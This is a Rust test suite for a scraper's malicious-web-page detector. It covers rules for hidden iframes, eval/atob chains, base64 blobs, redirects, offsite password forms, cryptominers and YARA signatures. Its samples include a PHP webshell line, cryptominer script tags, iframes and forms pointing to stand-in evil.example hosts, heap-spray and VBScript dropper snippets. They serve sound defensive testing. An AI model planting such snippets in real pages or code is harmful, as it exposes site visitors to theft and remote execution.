use super::testdata::{Rng, benign_bundle};
use super::*;
use crate::record::MAX_FINDINGS;
use std::path::Path;
use std::sync::OnceLock;

fn analyzer() -> &'static Analyzer {
    static A: OnceLock<Analyzer> = OnceLock::new();
    A.get_or_init(|| Analyzer::new(&[]).expect("default rules compile"))
}

fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

fn fixture(name: &str) -> Vec<u8> {
    let p = fixtures_dir().join(name);
    std::fs::read(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

fn analyze_with(a: &Analyzer, url: &str, content_type: Option<&str>, body: &[u8]) -> Analysis {
    let url = url::Url::parse(url).unwrap();
    a.analyze(&Page {
        url: &url,
        content_type,
        body,
    })
}

fn analyze(url: &str, content_type: Option<&str>, body: &[u8]) -> Analysis {
    analyze_with(analyzer(), url, content_type, body)
}

fn html(url: &str, body: &[u8]) -> Analysis {
    analyze(url, Some("text/html; charset=utf-8"), body)
}

fn ids(a: &Analysis) -> Vec<&str> {
    a.findings.iter().map(|f| f.rule.as_str()).collect()
}

fn get<'a>(a: &'a Analysis, id: &str) -> &'a Finding {
    a.findings
        .iter()
        .find(|f| f.rule == id)
        .unwrap_or_else(|| panic!("no {id} in {:#?}", a.findings))
}

/// Nothing above info.
fn assert_benign(a: &Analysis) {
    let above: Vec<_> = a
        .findings
        .iter()
        .filter(|f| f.severity > Severity::Info)
        .collect();
    assert!(above.is_empty(), "unexpected findings: {above:#?}");
    assert_eq!(a.verdict, Verdict::Clean);
    assert_eq!(a.score, 0);
}

/// One fixture per indicator class: it raises its own id, and only the ids
/// expected with it, with the expected verdict.
#[track_caller]
fn check_fixture(
    name: &str,
    url: &str,
    id: &str,
    severity: Severity,
    verdict: Verdict,
    also: &[&str],
) -> Analysis {
    let a = html(url, &fixture(name));
    let f = get(&a, id);
    assert_eq!(f.severity, severity, "{name}: {f:?}");
    assert_eq!(a.verdict, verdict, "{name}: {a:#?}");
    let mut expected: Vec<&str> = also.to_vec();
    expected.push(id);
    expected.sort_unstable();
    let mut got = ids(&a);
    got.sort_unstable();
    assert_eq!(got, expected, "{name}: {a:#?}");
    a
}

#[test]
fn fixture_iframe_hidden() {
    let a = check_fixture(
        "iframe-hidden.html",
        "https://www.greenthumb.example/",
        "iframe.hidden",
        Severity::Medium,
        Verdict::Suspicious,
        &[],
    );
    let d = &get(&a, "iframe.hidden").detail;
    assert!(d.starts_with("2 hidden iframes"), "{d}");
    assert!(
        d.contains("tds.evil.example") && d.contains("off-screen"),
        "{d}"
    );
}

#[test]
fn fixture_eval_chain() {
    let a = check_fixture(
        "eval-chain.html",
        "https://news.example/",
        "js.eval-chain",
        Severity::High,
        Verdict::Suspicious,
        &[],
    );
    let d = &get(&a, "js.eval-chain").detail;
    assert!(
        d.starts_with("3 decode-and-run chains, first: eval(atob("),
        "{d}"
    );
}

#[test]
fn fixture_base64_blob() {
    let a = check_fixture(
        "base64-blob.html",
        "https://recipes.example/",
        "js.base64-blob",
        Severity::Medium,
        Verdict::Suspicious,
        &[],
    );
    let d = &get(&a, "js.base64-blob").detail;
    // The font and image data URIs in the CSS are not counted.
    assert!(d.starts_with("1 base64 blob ("), "{d}");
    assert!(
        d.contains("decodes to text: (function(){var d=document"),
        "{d}"
    );
}

#[test]
fn fixture_obfuscator() {
    let a = check_fixture(
        "obfuscator.html",
        "https://counter.example/",
        "js.obfuscator",
        Severity::Medium,
        Verdict::Suspicious,
        &[],
    );
    let d = &get(&a, "js.obfuscator").detail;
    assert!(
        d.contains("_0x-style identifiers, string-array rotation"),
        "{d}"
    );
}

#[test]
fn fixture_meta_refresh() {
    let a = check_fixture(
        "meta-refresh.html",
        "http://parked.example/",
        "redirect.meta-refresh",
        Severity::Medium,
        Verdict::Suspicious,
        &[],
    );
    assert_eq!(
        get(&a, "redirect.meta-refresh").detail,
        "meta refresh to another site after 0s: https://prize-claim.evil.example/win?ref=8812"
    );
}

#[test]
fn fixture_script_redirect() {
    let a = check_fixture(
        "script-redirect.html",
        "https://bobsbikes.example/",
        "redirect.script",
        Severity::Medium,
        Verdict::Suspicious,
        &[],
    );
    assert_eq!(
        get(&a, "redirect.script").detail,
        "1 script redirect to another site, first: https://cheap-pills.evil.example/?src=seo"
    );
}

#[test]
fn fixture_password_offsite() {
    let a = check_fixture(
        "password-offsite.html",
        "https://mail-verify.example.net/login",
        "form.password-offsite",
        Severity::High,
        Verdict::Suspicious,
        &[],
    );
    assert!(
        get(&a, "form.password-offsite")
            .detail
            .contains("action=https://collect.evil.example/gate/post.php")
    );
}

#[test]
fn fixture_miner() {
    let a = check_fixture(
        "miner.html",
        "https://movies.example/",
        "miner.known",
        Severity::High,
        Verdict::Malicious,
        &["yara.CryptominerJs", "script.external-domain"],
    );
    let d = &get(&a, "miner.known").detail;
    assert!(
        d.contains("script src=https://coinhive.com/lib/coinhive.min.js"),
        "{d}"
    );
    assert!(d.contains("CoinHive.Anonymous"), "{d}");
    assert_eq!(a.score, 100);
}

#[test]
fn fixture_external_scripts() {
    let a = check_fixture(
        "external-scripts.html",
        "https://docs.example.com/start",
        "script.external-domain",
        Severity::Info,
        Verdict::Clean,
        &[],
    );
    assert_eq!(a.score, 0);
    assert_eq!(
        get(&a, "script.external-domain").detail,
        "2 external script domains: cdn.jsdelivr.net, cdnjs.cloudflare.com"
    );
}

#[test]
fn fixture_yara_skimmer() {
    let a = check_fixture(
        "yara-skimmer.html",
        "https://outdoorgear.example/checkout/onepage/",
        "yara.MagecartSkimmer",
        Severity::High,
        Verdict::Malicious,
        &[],
    );
    let d = &get(&a, "yara.MagecartSkimmer").detail;
    assert!(d.starts_with("JS skimmer:"), "{d}");
    assert!(
        !d.contains("(rules "),
        "default rules carry no file name: {d}"
    );
}

#[test]
fn benign_bundle_fixture_is_current() {
    let generated = benign_bundle();
    assert!(generated.len() >= 200 * 1024);
    let committed = fixture("benign-bundle.js");
    assert!(
        committed == generated.as_bytes(),
        "benign-bundle.js is stale: run `cargo test -p trawl-scraper --lib analysis -- --ignored regenerate`"
    );
}

#[test]
#[ignore = "writes the fixture file"]
fn regenerate_benign_bundle() {
    std::fs::write(fixtures_dir().join("benign-bundle.js"), benign_bundle()).unwrap();
}

#[test]
fn benign_bundle_is_clean() {
    let bundle = fixture("benign-bundle.js");
    // The things that fool naive detectors are really there.
    let text = String::from_utf8_lossy(&bundle);
    for needle in [
        "Function.prototype",
        "new Function(\"return this\")",
        "atob=i.g.atob||function",
        "decodeURIComponent(atob(",
        "String.fromCharCode(",
        "sourceMappingURL=data:application/json;charset=utf-8;base64,",
        "data:font/woff2;charset=utf-8;base64,",
        "data:image/svg+xml;base64,",
        "window.location.href=",
        "typeof eval",
    ] {
        assert!(text.contains(needle), "{needle}");
    }
    // As a script file ...
    let a = analyze(
        "https://shop.example/static/js/main.7f3a9c21.js",
        Some("application/javascript"),
        &bundle,
    );
    assert_benign(&a);
    assert!(a.findings.is_empty(), "{:#?}", a.findings);
    // ... and inline in a page.
    let mut page = b"<!doctype html><html><head><title>Shop</title><script>".to_vec();
    page.extend_from_slice(&bundle);
    page.extend_from_slice(b"</script></head><body><div id=root></div></body></html>");
    assert_benign(&html("https://shop.example/", &page));
}

#[test]
fn benign_analytics_page_is_clean() {
    let a = html(
        "https://www.northwind.example/",
        &fixture("benign-analytics.html"),
    );
    assert_benign(&a);
    let d = &get(&a, "script.external-domain").detail;
    // Scripts that snippets insert by code are not tags: only tag sources count.
    assert_eq!(
        d,
        "2 external script domains: www.googletagmanager.com, plausible.io"
    );
}

#[test]
fn benign_login_forms_are_clean() {
    // Relative action: clean wherever the page is served from.
    assert_benign(&html(
        "https://bank.example/login",
        &fixture("benign-login.html"),
    ));
    assert_benign(&html(
        "http://127.0.0.1:8080/login",
        &fixture("benign-login.html"),
    ));
    // Absolute actions to subdomains of the page's own site.
    let page = fixture("benign-login-subdomain.html");
    assert_benign(&html("https://www.example.com/login", &page));
    assert_benign(&html("https://example.com/login", &page));
    // The same forms on another site post offsite.
    let a = html("https://example-login.net/", &page);
    assert!(
        get(&a, "form.password-offsite")
            .detail
            .starts_with("2 password forms"),
        "{a:#?}"
    );
}

#[test]
fn registrable_domain_rules_apply_to_forms() {
    let form = |action: &str| {
        format!("<form action=\"{action}\"><input type=password></form>").into_bytes()
    };
    let shop = "https://shop.example.co.uk/login";
    assert_benign(&html(shop, &form("https://pay.example.co.uk/")));
    assert_eq!(
        ids(&html(shop, &form("https://other.co.uk/"))),
        ["form.password-offsite"]
    );
    assert_eq!(
        ids(&html(
            "https://me.github.io/",
            &form("https://you.github.io/")
        )),
        ["form.password-offsite"]
    );
    assert_eq!(
        ids(&html(
            "https://example.com/",
            &form("mailto:x@evil.example")
        )),
        ["form.password-offsite"]
    );
    // <base href> moves relative actions.
    let mut based = b"<base href=\"https://evil.example/\">".to_vec();
    based.extend(form("collect.php"));
    assert_eq!(
        ids(&html("https://example.com/", &based)),
        ["form.password-offsite"]
    );
}

#[test]
fn hidden_iframe_variants() {
    let page = |iframe: &str| format!("<html><body>{iframe}</body></html>").into_bytes();
    let url = "https://site.example/";
    for (iframe, reason) in [
        (
            r#"<iframe src="https://x.evil.example/" style="display: none"></iframe>"#,
            "display:none",
        ),
        (
            r#"<iframe src="https://x.evil.example/" style="visibility:hidden"></iframe>"#,
            "visibility:hidden",
        ),
        (
            r#"<IFRAME SRC=https://x.evil.example/ WIDTH=0 HEIGHT=0>"#,
            "width <= 1",
        ),
        (
            r#"<iframe src="//x.evil.example/" height="1px"></iframe>"#,
            "height <= 1",
        ),
        (
            r#"<iframe hidden src="https://x.evil.example/"></iframe>"#,
            "hidden attribute",
        ),
        (
            r#"<div style="display:none"><p><iframe src="https://x.evil.example/"></iframe></p></div>"#,
            "display:none",
        ),
        (
            r#"<iframe src="data:text/html;base64,PHNjcmlwdD4=" style="display:none"></iframe>"#,
            "display:none",
        ),
    ] {
        let a = html(url, &page(iframe));
        let f = get(&a, "iframe.hidden");
        assert!(
            f.detail.ends_with(&format!("({reason})")),
            "{iframe}: {f:?}"
        );
    }
    // A long data: URI is still seen for what it is.
    let long = format!(
        "<iframe width=0 height=0 src=\"data:text/html,{}\"></iframe>",
        "%3Cp%3Ex".repeat(2000)
    );
    assert_eq!(ids(&html(url, long.as_bytes())), ["iframe.hidden"]);
    for benign in [
        // Visible, same site, relative, allow-listed tag managers, closed hidden container.
        r#"<iframe src="https://x.example/" width="300" height="250"></iframe>"#,
        r#"<iframe src="https://cdn.site.example/frame" style="display:none"></iframe>"#,
        r#"<iframe src="/frame" width="0" height="0"></iframe>"#,
        r#"<iframe style="display:none"></iframe>"#,
        r#"<iframe src="about:blank" style="display:none"></iframe>"#,
        r#"<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>"#,
        r#"<div style="display:none">menu</div><iframe src="https://maps.example.org/embed" width="600" height="450"></iframe>"#,
    ] {
        assert_benign(&html(url, &page(benign)));
    }
}

#[test]
fn eval_chain_variants() {
    let url = "https://site.example/";
    for js in [
        r#"eval(atob("YWxlcnQoMSk="))"#,
        r#"eval ( window.atob ( x ) )"#,
        r#"var f = new Function(atob(p)); f();"#,
        r#"Function(decodeURIComponent("%61%6c%65%72%74"))()"#,
        r#"document.write(unescape("%3C%73%63%72%69%70%74%20%73%72%63"))"#,
        r#"document.writeln(unescape(payload))"#,
        r#"eval(unescape("%61%6c%65%72%74%28%31%29"))"#,
        r#"eval(String.fromCharCode(97,108,101,114,116))"#,
        r#"eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))"#,
        r#"eval("\x61\x6c\x65\x72\x74\x28\x31\x29")"#,
        r#"var s = atob("dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8v"); eval(s);"#,
    ] {
        let page = format!("<script>{js}</script>");
        let a = html(url, page.as_bytes());
        assert!(ids(&a).contains(&"js.eval-chain"), "{js}: {a:#?}");
    }
    // In an event handler attribute, and in a script served as JavaScript.
    let a = html(url, br#"<body onload="eval(atob('YWxlcnQoMSk='))">"#);
    assert_eq!(ids(&a), ["js.eval-chain"]);
    let a = analyze(
        "https://site.example/x.js",
        Some("text/javascript"),
        b"eval(atob(q));",
    );
    assert_eq!(ids(&a), ["js.eval-chain"]);
    for benign in [
        // The legacy Google Analytics snippet writes a mostly plain tag.
        r#"document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));"#,
        r#"var claims = JSON.parse(atob(token.split(".")[1]));"#,
        r#"var g = Function("return this")(); setTimeout(function(){ tick() }, 10);"#,
        r#"evaluate(atob(x)); my_eval(atob(y));"#,
        r#"var s = String.fromCharCode.apply(null, bytes);"#,
    ] {
        let page = format!("<script>{benign}</script>");
        assert_benign(&html(url, page.as_bytes()));
    }
    // Not in a script, not code: text about eval(atob()) is not flagged.
    assert_benign(&html(
        url,
        b"<p>Never write eval(atob(x)) in your code.</p>",
    ));
}

#[test]
fn base64_blob_variants() {
    let url = "https://site.example/";
    let mut rng = Rng::new(42);
    let text = super::testdata::base64("console.log('hello world');".repeat(60).as_bytes());
    let binary = super::testdata::base64(&rng.bytes(1200));
    let png =
        super::testdata::base64(&[b"\x89PNG\r\n\x1a\n".as_slice(), &rng.bytes(1200)].concat());
    let a = html(url, format!("<script>var p='{text}';</script>").as_bytes());
    assert_eq!(get(&a, "js.base64-blob").severity, Severity::Medium);
    let a = html(
        url,
        format!("<script>var p=`{binary}`;</script>").as_bytes(),
    );
    assert_eq!(get(&a, "js.base64-blob").severity, Severity::Low);
    assert_eq!(a.verdict, Verdict::Clean);
    let a = html(
        url,
        format!("<iframe src=\"data:text/html;base64,{text}\"></iframe>").as_bytes(),
    );
    assert!(get(&a, "js.base64-blob").detail.contains("data:text/html"));
    for benign in [
        format!("<script>var img='data:image/png;base64,{binary}';</script>"),
        format!("<style>.a{{background:url(data:image/gif;base64,{binary})}}</style>"),
        format!(
            "<style>@font-face{{src:url(data:application/x-font-woff;charset=utf-8;base64,{text})}}</style>"
        ),
        format!("<script>var logo=\"{png}\";</script>"),
        format!("<input type=hidden name=__VIEWSTATE value=\"{text}\">"),
        format!("<script>var short='{}';</script>", &text[..1000]),
        format!("<script>x()\n//# sourceMappingURL=data:application/json;base64,{text}\n</script>"),
        format!("<script type=\"application/json\">{{\"k\":\"{text}\"}}</script>"),
    ] {
        assert_benign(&html(url, benign.as_bytes()));
    }
}

#[test]
fn redirect_variants() {
    let url = "https://site.example/a/";
    for js in [
        r#"location.href = "https://x.evil.example/";"#,
        r#"window.location='//x.evil.example/p';"#,
        r#"top.location.assign("https://x.evil.example/")"#,
        r#"document.location.href="http://x.evil.example""#,
    ] {
        let a = html(url, format!("<script>{js}</script>").as_bytes());
        assert_eq!(ids(&a), ["redirect.script"], "{js}");
    }
    for js in [
        r#"location.href = "/login";"#,
        r#"location.href = "https://www.site.example/b";"#,
        r#"if (location.href == "https://x.evil.example/") {}"#,
        r#"if (location.href !== "https://x.evil.example/") {}"#,
        r#"location.href = "https://" + host + "/x";"#,
        r#"location.replace(next);"#,
    ] {
        assert_benign(&html(url, format!("<script>{js}</script>").as_bytes()));
    }
    // On load it is a redirect; on a click it is a link.
    let a = html(
        url,
        br#"<body onload="location.href='https://x.evil.example/'">"#,
    );
    assert_eq!(ids(&a), ["redirect.script"]);
    assert_benign(&html(
        url,
        br#"<button onclick="location.href='https://twitter.example/intent/tweet'">Share</button>
<a href="javascript:location.href='https://x.example/'">x</a>"#,
    ));
    let a = html(
        url,
        br#"<meta http-equiv=refresh content="5; URL='https://x.evil.example/'">"#,
    );
    assert_eq!(ids(&a), ["redirect.meta-refresh"]);
    assert_benign(&html(url, br#"<meta http-equiv="refresh" content="300">"#));
    assert_benign(&html(
        url,
        br#"<meta http-equiv="refresh" content="0;url=/home">"#,
    ));
}

#[test]
fn miner_variants() {
    let url = "https://site.example/";
    for page in [
        r#"<script src="https://www.hostingcloud.racing/Xa1b.js"></script><script>var _client = new Client.Anonymous('abc', {throttle: 0});_client.start();</script>"#,
        r#"<script>var m = new CRLT.Anonymous('k'); m.start();</script>"#,
        r#"<script src="//authedmine.com/lib/authedmine.min.js"></script>"#,
        r#"<script>var miner = deepMiner.Init('k'); miner.start();</script>"#,
        r#"<script src="https://minero.cc/lib/minero.min.js"></script>"#,
    ] {
        let a = html(url, page.as_bytes());
        assert_eq!(get(&a, "miner.known").severity, Severity::High, "{page}");
        assert_eq!(a.verdict, Verdict::Malicious, "{page}");
    }
    // A news article about Coinhive is not a miner.
    assert_benign(&html(
        url,
        b"<p>Coinhive (coinhive.com) shut down in 2019; CoinHive.Anonymous was its API.</p>",
    ));
}

#[test]
fn obfuscator_needs_volume_or_rotation() {
    let url = "https://site.example/";
    let few = "<script>var _0x1a2b=1,_0x3c4d=2;</script>";
    assert_benign(&html(url, few.as_bytes()));
    let many: String = (0..50)
        .map(|i| format!("var _0x{:04x}={i};", 0x1000 + i))
        .collect();
    let a = html(url, format!("<script>{many}</script>").as_bytes());
    assert_eq!(ids(&a), ["js.obfuscator"]);
}

#[test]
fn default_yara_rules_fire_on_their_targets() {
    let url = "https://site.example/";
    for (page, rule) in [
        (
            r#"<script>document.write(unescape("%3C%73%63%72%69%70%74%20%73%72%63%3D%22%68%74%74%70"));</script>"#,
            "yara.EncodedScriptTagDropper",
        ),
        (
            "<pre><?php @eval(base64_decode($_POST['z0'])); ?></pre>",
            "yara.PhpWebshellText",
        ),
        (
            r#"<script>document.write('<iframe src="http://x.evil.example/" width="0" height="0" frameborder="0"></iframe>');</script>"#,
            "yara.JsWrittenHiddenIframe",
        ),
        (
            r#"<script>var sc = unescape("%u0c0c%u0c0c"); while (sc.length < 0x40000) sc += sc;</script>"#,
            "yara.HeapSprayShellcode",
        ),
        (
            r#"<script language="VBScript">Set s = CreateObject("WScript.Shell") : s.Run "cmd /c calc"</script>"#,
            "yara.VbscriptDropper",
        ),
        (
            "<script language=vbscript>function runmumaa()\nend function</script>",
            "yara.VbscriptGodMode",
        ),
    ] {
        let a = html(url, page.as_bytes());
        assert!(ids(&a).contains(&rule), "{rule}: {a:#?}");
    }
    // PHP shown as escaped text in an article is not a served webshell.
    assert_benign(&html(
        url,
        b"<pre>&lt;?php @eval(base64_decode($_POST['z0'])); ?&gt;</pre>",
    ));
}

fn temp_rules(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    dir
}

const USER_RULE: &str = r#"
rule TrawlTestMarker
{
    meta:
        description = "test marker string"
        severity = "low"
    strings:
        $a = "trawl-test-marker-7f3a"
    condition:
        $a
}
"#;

#[test]
fn user_rules_folder_adds_rules() {
    let dir = temp_rules(&[
        ("b.yar", USER_RULE),
        (
            "a.yara",
            "rule Second { meta: severity = \"high\" strings: $a = \"second-marker\" condition: $a }",
        ),
        ("notes.txt", "not rules"),
    ]);
    let a = Analyzer::new(&[dir.path().to_path_buf()]).unwrap();
    let r = analyze_with(
        &a,
        "https://x.example/",
        None,
        b"<p>trawl-test-marker-7f3a</p>",
    );
    let f = get(&r, "yara.TrawlTestMarker");
    assert_eq!(f.severity, Severity::Low);
    assert!(
        f.detail.starts_with("test marker string (rules b.yar)"),
        "{f:?}"
    );
    assert!(
        f.detail
            .ends_with("matched $a; first at offset 3: trawl-test-marker-7f3a"),
        "{f:?}"
    );
    assert_eq!(r.verdict, Verdict::Clean);
    let r = analyze_with(&a, "https://x.example/", None, b"second-marker");
    let f = get(&r, "yara.Second");
    assert_eq!(f.severity, Severity::High);
    assert!(
        f.detail
            .starts_with("YARA rule Second matched (rules a.yara)"),
        "{f:?}"
    );
    assert_eq!(r.verdict, Verdict::Malicious);
    // The default rules still apply.
    let r = analyze_with(
        &a,
        "https://x.example/",
        None,
        b"<script>new CoinHive.Anonymous('k')</script>",
    );
    assert!(ids(&r).contains(&"yara.CryptominerJs"));
}

#[test]
fn user_rule_files_and_same_names_in_two_files() {
    let one = temp_rules(&[("dup.yar", USER_RULE)]);
    let two = temp_rules(&[("dup.yar", &USER_RULE.replace("\"low\"", "\"medium\""))]);
    let a = Analyzer::new(&[one.path().join("dup.yar"), two.path().to_path_buf()]).unwrap();
    let r = analyze_with(&a, "https://x.example/", None, b"trawl-test-marker-7f3a");
    let hits: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule == "yara.TrawlTestMarker")
        .collect();
    assert_eq!(hits.len(), 1, "one finding per id: {r:#?}");
    assert_eq!(
        hits[0].severity,
        Severity::Medium,
        "the most severe is kept"
    );
}

#[test]
fn broken_rule_names_file_and_line() {
    let dir = temp_rules(&[(
        "bad.yar",
        "rule Ok { condition: true }\n\nrule Broken {\n  strings: $a = \"x\"\n  condition: $a and and\n}\n",
    )]);
    let path = dir.path().join("bad.yar");
    let e = Analyzer::new(&[dir.path().to_path_buf()]).expect_err("must fail");
    let msg = e.to_string();
    assert!(
        msg.starts_with(&format!("rules file {} line 5: ", path.display())),
        "{msg}"
    );
    assert!(
        msg.ends_with(": fix or remove the file (TRAWL_RULES)"),
        "{msg}"
    );
    assert!(matches!(e, RulesError::Syntax { line: 5, .. }));

    // A plain syntax error.
    let dir = temp_rules(&[(
        "syntax.yar",
        "rule A {\n  condition: true\n}\nrule B {\n  strings $a = \"x\"\n",
    )]);
    let e = Analyzer::new(&[dir.path().join("syntax.yar")]).expect_err("must fail");
    assert!(
        e.to_string().contains("syntax.yar line 5: syntax error"),
        "{e}"
    );

    // A compile error (unknown string) is located too.
    let dir = temp_rules(&[("undef.yar", "rule U {\n  condition:\n    $nope\n}\n")]);
    let e = Analyzer::new(&[dir.path().join("undef.yar")]).expect_err("must fail");
    assert!(e.to_string().contains("undef.yar line 3: "), "{e}");
}

#[test]
fn missing_and_empty_rule_paths_are_clear_errors() {
    let e = Analyzer::new(&[PathBuf::from("/nonexistent/trawl-rules")])
        .err()
        .unwrap();
    assert_eq!(
        e.to_string(),
        "rules path /nonexistent/trawl-rules does not exist: fix or remove it (TRAWL_RULES)"
    );
    let dir = temp_rules(&[("readme.md", "no rules here")]);
    let e = Analyzer::new(&[dir.path().to_path_buf()]).err().unwrap();
    assert!(matches!(e, RulesError::EmptyFolder { .. }));
    assert!(
        e.to_string().contains("holds no .yar or .yara files"),
        "{e}"
    );
}

#[test]
fn invalid_utf8_and_binary_are_clean() {
    let url = "https://site.example/";
    let mut rng = Rng::new(7);
    let random = rng.bytes(1 << 20);
    for ct in [
        None,
        Some("text/html"),
        Some("application/octet-stream"),
        Some("image/png"),
        Some("application/javascript"),
    ] {
        let a = analyze(url, ct, &random);
        assert_benign(&a);
    }
    let mut invalid = b"<html><head><title>\xff\xfe caf\xe9</title></head><body>".to_vec();
    invalid.extend_from_slice(b"<script>var s = '\xc3\x28\xa0\xa1';</script><p>\x80\x81</p>");
    invalid.extend_from_slice(b"<iframe src=\"https://\xff\xfe.example/\" style=\"display:none\">");
    invalid.extend_from_slice(b"<form action=\"https://\xe9vil.example/\"><input type=password>");
    let a = html(url, &invalid);
    assert!(
        a.findings
            .iter()
            .all(|f| f.detail.chars().count() <= crate::record::MAX_DETAIL_CHARS)
    );
}

#[test]
fn hostile_shapes_do_not_panic() {
    let url = "https://site.example/";
    let inputs: Vec<Vec<u8>> = vec![
        Vec::new(),
        b"<".to_vec(),
        b"<<<<<<<<<<".to_vec(),
        b"<script".to_vec(),
        b"<script>".to_vec(),
        b"<iframe src='".to_vec(),
        b"<!--".to_vec(),
        b"<meta http-equiv=refresh content=\"0;url=".to_vec(),
        b"<form action=http://[::1".to_vec(),
        "<div>".repeat(100_000).into_bytes(),
        "<iframe src=https://a.evil.example/ width=0>"
            .repeat(20_000)
            .into_bytes(),
        "eval(atob(x));".repeat(50_000).into_bytes(),
        format!("<script>'{}'</script>", "A".repeat(3_000_000)).into_bytes(),
        format!("<script>\"{}", "aB3+".repeat(500_000)).into_bytes(),
    ];
    for body in inputs {
        let a = html(url, &body);
        assert!(a.findings.len() <= MAX_FINDINGS);
        assert!(a.score <= 100);
    }
    // A huge count is one finding with the count in its detail.
    let a = html(
        url,
        "<iframe src=https://a.evil.example/ width=0>"
            .repeat(20_000)
            .as_bytes(),
    );
    assert_eq!(ids(&a), ["iframe.hidden"]);
    assert!(
        get(&a, "iframe.hidden")
            .detail
            .starts_with("10000 hidden iframes")
    );
}

#[test]
fn findings_are_sorted_and_capped() {
    let rules: String = (0..120)
        .map(|i| format!("rule R{i} {{ strings: $a = \"cap-marker\" condition: $a }}\n"))
        .collect();
    let dir = temp_rules(&[("many.yar", &rules)]);
    let a = Analyzer::new(&[dir.path().to_path_buf()]).unwrap();
    let r = analyze_with(
        &a,
        "https://x.example/",
        None,
        b"cap-marker <script>eval(atob(x))</script>",
    );
    assert_eq!(r.findings.len(), MAX_FINDINGS);
    assert_eq!(r.findings[0].rule, "js.eval-chain");
    assert_eq!(r.findings.last().unwrap().rule, "trawl.findings-truncated");
    assert_eq!(
        r.findings.last().unwrap().detail,
        "22 more findings not stored"
    );
    assert_eq!(r.score, 100);
}

#[test]
fn analysis_is_deterministic_and_analyzer_is_shareable() {
    fn shareable<T: Send + Sync>() {}
    shareable::<Analyzer>();
    let debug = format!("{:?}", analyzer());
    assert!(debug.starts_with("Analyzer { yara_rules: 8"), "{debug}");
    let body = fixture("miner.html");
    let a = html("https://movies.example/", &body);
    let b = html("https://movies.example/", &body);
    assert_eq!(a, b);
}

/// What the end-to-end test sees when the hostile web server serves the
/// fixtures from loopback (the page's site is then `127.0.0.1`).
#[test]
fn fixtures_served_from_loopback() {
    let cases: &[(&str, Option<&str>, &[&str], Verdict)] = &[
        (
            "iframe-hidden.html",
            None,
            &["iframe.hidden"],
            Verdict::Suspicious,
        ),
        (
            "eval-chain.html",
            None,
            &["js.eval-chain"],
            Verdict::Suspicious,
        ),
        (
            "base64-blob.html",
            None,
            &["js.base64-blob"],
            Verdict::Suspicious,
        ),
        (
            "obfuscator.html",
            None,
            &["js.obfuscator"],
            Verdict::Suspicious,
        ),
        (
            "meta-refresh.html",
            None,
            &["redirect.meta-refresh"],
            Verdict::Suspicious,
        ),
        (
            "script-redirect.html",
            None,
            &["redirect.script"],
            Verdict::Suspicious,
        ),
        (
            "password-offsite.html",
            None,
            &["form.password-offsite"],
            Verdict::Suspicious,
        ),
        (
            "miner.html",
            None,
            &[
                "miner.known",
                "script.external-domain",
                "yara.CryptominerJs",
            ],
            Verdict::Malicious,
        ),
        (
            "external-scripts.html",
            None,
            &["script.external-domain"],
            Verdict::Clean,
        ),
        (
            "yara-skimmer.html",
            None,
            &["yara.MagecartSkimmer"],
            Verdict::Malicious,
        ),
        (
            "benign-analytics.html",
            None,
            &["script.external-domain"],
            Verdict::Clean,
        ),
        ("benign-login.html", None, &[], Verdict::Clean),
        (
            "benign-bundle.js",
            Some("application/javascript"),
            &[],
            Verdict::Clean,
        ),
        // Absolute actions to *.example.com are another site than 127.0.0.1.
        (
            "benign-login-subdomain.html",
            None,
            &["form.password-offsite"],
            Verdict::Suspicious,
        ),
    ];
    for (name, ct, expected, verdict) in cases {
        let a = analyze(
            &format!("http://127.0.0.1:41234/{name}"),
            Some(ct.unwrap_or("text/html")),
            &fixture(name),
        );
        let mut got = ids(&a);
        got.sort_unstable();
        assert_eq!(&got, expected, "{name}: {a:#?}");
        assert_eq!(a.verdict, *verdict, "{name}");
    }
    // Every fixture in the folder is covered.
    let mut names: Vec<String> = std::fs::read_dir(fixtures_dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let mut covered: Vec<String> = cases.iter().map(|c| c.0.to_owned()).collect();
    covered.sort();
    assert_eq!(names, covered);
}

#[test]
#[ignore = "prints every fixture's analysis"]
fn print_fixture_analyses() {
    for e in std::fs::read_dir(fixtures_dir()).unwrap() {
        let name = e.unwrap().file_name().to_string_lossy().into_owned();
        let a = html(&format!("http://127.0.0.1:41234/{name}"), &fixture(&name));
        println!("{name}: {:?} {}", a.verdict, a.score);
        for f in &a.findings {
            println!("  {} {:?} {}", f.rule, f.severity, f.detail);
        }
    }
}
